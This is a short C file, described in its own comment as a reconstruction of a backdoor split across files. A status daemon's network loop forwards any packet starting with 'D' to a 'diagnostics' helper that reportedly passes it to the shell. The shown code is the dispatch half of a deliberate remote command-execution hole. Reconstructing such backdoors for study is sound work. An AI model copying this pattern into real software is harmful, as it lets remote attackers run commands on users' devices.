/* A reconstruction, in our own code, of a backdoor split across files:
 * the network loop of an embedded device's status daemon hands the bytes of
 * one packet type to a "diagnostics" helper in another file, which builds a
 * command line from them and gives it to the shell. */
#include <string.h>
#include <sys/types.h>
#include <sys/socket.h>

#include "statusd.h"

void statusd_serve(int sock)
{
    char pkt[1024];
    for (;;) {
        ssize_t n = recv(sock, pkt, sizeof(pkt) - 1, 0);
        if (n <= 0)
            return;
        pkt[n] = 0;
        if (pkt[0] == 'D')
            diag_run(pkt + 1);
        else
            status_reply(sock);
    }
}
